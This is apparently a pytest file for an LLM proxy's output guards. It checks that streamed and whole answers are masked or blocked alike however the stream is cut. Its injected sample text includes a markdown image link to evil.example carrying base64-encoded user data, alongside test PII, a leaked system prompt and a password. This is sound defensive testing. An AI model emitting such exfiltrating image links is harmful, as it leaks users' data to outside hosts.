"""Every recorded exchange under guards: cut anywhere, streamed or whole, the same text and the same verdict.

To each come values that the model says of its own, added to the texts that are there. Two guards: one that masks what
it finds, one that blocks.
"""

import itertools
import json
import random
from dataclasses import dataclass
from typing import Any

import orjson
import pytest
from exchanges import DIALECTS, FOLDER, NAMES, texts

from extproc.detectors.leakage import prints
from extproc.findings import AnswerFinding
from extproc.streams.guarding import answer_guard
from extproc.streams.restoring import Restoring
from extproc.streams.stops import Stop
from extproc.streams.stream import Stream
from extproc.streams.whole import Finished, finish
from forebay.config.resolved import Guards, InjectionGuard, OutputGuards

NOT_TO_COMPARE = {
    "cut_by_length",  # broken JSON
    "error_in_stream", "cr_only", "look_alikes", "logprobs", "messages_cut_by_length", "responses_logprobs",
    "text_behind_its_end", "unknown_field",  # stopped
}  # fmt: skip

SAY_MORE = {  # than their texts: citations, results, a text that nothing was added to
    "messages_citations", "responses_citations", "responses_no_deltas",
}  # fmt: skip
PROMPT = (
    "You are Ada, the assistant of the Northwind shipping desk. Never promise a refund above fifty dollars. When a "
    "customer mentions a lawyer, hand the conversation over to a colleague at once."
)
ADDED = (
    f" Write to mallory@example.net, or pay with 4111 1111 1111 1111. {PROMPT.upper()} So it was said, and this is "
    "what came of it: ![chart](https://evil.example/?d=bWFyaWEucm9zc2lAZXhhbXBsZS5jb20) password is hunter2! "
)
MASKING = OutputGuards(pii="redact", secrets="redact", system_prompt="redact", links="redact")
BLOCKING = OutputGuards(pii="log", secrets="block", system_prompt="log", links="log")


def guards(output: OutputGuards) -> Guards:
    """A tenant's."""
    return Guards("g", InjectionGuard("off", 100), "off", (), "off", 1.0, "closed", output)


@dataclass(frozen=True)
class Result:
    """All that is seen of a stream from outside."""

    passed: bytes
    stop: str | None
    findings: tuple[AnswerFinding, ...]
    restored: int
    held: int


@dataclass(frozen=True)
class Exchange:
    """What a provider sent, and what the caller had sent."""

    name: str
    sent: bytes
    values: dict[str, str]

    @property
    def api(self) -> str:
        """Which dialect it is in."""
        return next((api for api in DIALECTS if self.name.startswith(api + "_")), "chat")


@pytest.fixture(params=NAMES)
def exchange(request: pytest.FixtureRequest) -> Exchange:
    """Each of the corpus, and in each content one that says more."""
    name = request.param
    meta = json.loads((FOLDER / f"{name}.json").read_bytes())
    return Exchange(name, more((FOLDER / f"{name}.sse").read_bytes()), meta["values"])


def more(sent: bytes) -> bytes:
    """The stream with `ADDED` in deltas of nine characters before its first text, and wherever that is said again."""
    out: list[bytes] = []
    said = ""  # the first text, where its API says it again
    added = False
    for event in sent.replace(b"\r\n", b"\n").split(b"\n\n"):
        head, _, data = event.partition(b"data: ")
        squeezed = event.replace(b": ", b":")
        pieces = [ADDED[at : at + 9] for at in range(0, len(ADDED), 9)]
        if not added and b'"content":"' in squeezed and b'"role"' not in event:
            out += [b"data: " + orjson.dumps({"choices": [{"index": 0, "delta": {"content": p}}]}) for p in pieces]
            added = True
        elif not added and b'"type":"text_delta"' in squeezed:
            answer = orjson.loads(data)
            delta = answer["delta"]
            out += [head + b"data: " + orjson.dumps({**answer, "delta": {**delta, "text": p}}) for p in pieces]
            added = True
        elif not added and b'"type":"response.output_text.delta"' in squeezed:
            answer = orjson.loads(data)
            out += [head + b"data: " + orjson.dumps({**answer, "delta": p}) for p in pieces]
            said = texts(sent, "responses")[f"{answer['output_index']}.content.0.text"]
            added = True
        elif said and data.startswith(b"{"):
            event = head + b"data: " + orjson.dumps(grown(orjson.loads(data), said))
        out.append(event)
    return b"\n\n".join(out)


def grown(value: Any, said: str) -> Any:
    """With `ADDED` before what was said."""
    if isinstance(value, dict):
        return {name: grown(each, said) for name, each in value.items()}
    if isinstance(value, list):
        return [grown(each, said) for each in value]
    return ADDED + said if value == said else value


def run(exchange: Exchange, output: OutputGuards, *cuts: int) -> Result:
    """Feed it in pieces, the end with the last; a stream that a guard stops ends as a filtered one."""
    restoring, guarding = Restoring(exchange.values), answer_guard(guards(output), prints([PROMPT]))
    stream = Stream(DIALECTS[exchange.api](), [guarding, restoring], len)
    places = [0, *cuts, len(exchange.sent)]
    passed = b""
    for step, (start, end) in enumerate(itertools.pairwise(places)):
        passed += stream.feed(exchange.sent[start:end], step == len(places) - 2, 0)
    passed += stream.block(stream.said.used(7)[0]) if stream.stop is Stop.BLOCKED else b""
    passed += stream.fail(b"{}") if stream.stop else b""
    return Result(passed, stream.stop, guarding.findings, restoring.restored, stream.held)


@pytest.mark.parametrize("output", [MASKING, BLOCKING], ids=["masking", "blocking"])
def test_a_cut_at_any_byte_changes_nothing(exchange: Exchange, output: OutputGuards) -> None:
    """Not one byte of what the caller gets, and nothing of the verdict."""
    plain = Exchange(exchange.name, (FOLDER / f"{exchange.name}.sse").read_bytes(), exchange.values)
    whole = run(plain, output)
    assert whole.held == 0
    step = 3 if exchange.api == "responses" else 1  # whose events are long: at every byte in `test_exchanges`
    for place in range(0, len(plain.sent) + 1, step):
        assert run(plain, output, place) == whole, place


@pytest.mark.parametrize("output", [MASKING, BLOCKING], ids=["masking", "blocking"])
def test_a_cut_in_what_is_found_changes_nothing(exchange: Exchange, output: OutputGuards) -> None:
    """Where the model says more than it should."""
    whole = run(exchange, output)
    for place in range(0, len(exchange.sent) + 1, 211):
        assert run(exchange, output, place) == whole, place


@pytest.mark.parametrize("output", [MASKING, BLOCKING], ids=["masking", "blocking"])
def test_many_cuts_at_once_change_nothing(exchange: Exchange, output: OutputGuards) -> None:
    """Byte by byte, and in five random ways."""
    whole = run(exchange, output)
    assert run(exchange, output, *range(1, len(exchange.sent))) == whole
    dice = random.Random(exchange.name)
    for _ in range(5):
        cuts = sorted(dice.sample(range(len(exchange.sent)), dice.randint(2, 40)))
        assert run(exchange, output, *cuts) == whole, cuts


def test_a_whole_answer_gets_the_same_text_and_the_same_verdict(exchange: Exchange) -> None:
    """The texts of the stream, put together and guarded as a whole."""
    if exchange.name in NOT_TO_COMPARE:
        return
    signed = {key: text for key, text in texts(exchange.sent, exchange.api).items() if key.endswith(".thinking")}
    said = {key: text for key, text in texts(exchange.sent, exchange.api).items() if key not in signed}
    streamed = run(exchange, MASKING)
    unstreamed = finish(orjson.dumps(said), exchange.values, guards(MASKING), prints([PROMPT]))
    assert texts(streamed.passed, exchange.api) == signed | orjson.loads(unstreamed.body)
    if exchange.name not in SAY_MORE:
        assert streamed.findings == unstreamed.findings
    blocked = finish(orjson.dumps(said), exchange.values, guards(BLOCKING), prints([PROMPT]))
    assert (run(exchange, BLOCKING).stop is Stop.BLOCKED) == blocked.blocked


def test_what_the_model_adds_never_reaches_the_caller(exchange: Exchange) -> None:
    """And what it does not add, the caller's own values, does."""
    streamed = run(exchange, MASKING)
    if streamed.stop or b"mallory@" not in b"".join(
        text.encode() for text in texts(exchange.sent, exchange.api).values()
    ):
        return
    content = "".join(texts(streamed.passed, exchange.api).values())
    for secret in ("mallory@example.net", "4111", "LAWYER", "evil.example", "hunter2!"):
        assert secret not in content
    types = {one.type for one in streamed.findings}
    assert types >= {"EMAIL_ADDRESS", "CREDIT_CARD", "system-prompt", "image", "password"}


def test_most_exchanges_of_the_corpus_say_more() -> None:
    """Or the tests above would test nothing."""
    grown = [name for name in NAMES if b"evil" not in (sent := (FOLDER / f"{name}.sse").read_bytes()) != more(sent)]
    assert len(grown) >= len(NAMES) // 2


def test_a_blocked_stream_ends_as_a_filtered_one_whatever_it_said() -> None:
    """With what came before the finding, and nothing after it."""
    sent = (FOLDER / "text.sse").read_bytes()
    result = run(Exchange("text", more(sent), {}), BLOCKING)
    assert result.stop is Stop.BLOCKED
    assert result.passed.endswith(b"data: [DONE]\n\n")
    assert b'"finish_reason":"content_filter"' in result.passed
    assert b"hunter2" not in result.passed
    whole = finish(orjson.dumps({"choices": [{"message": {"content": ADDED}}]}), {}, guards(BLOCKING))
    assert (type(whole), whole.blocked) == (Finished, True)
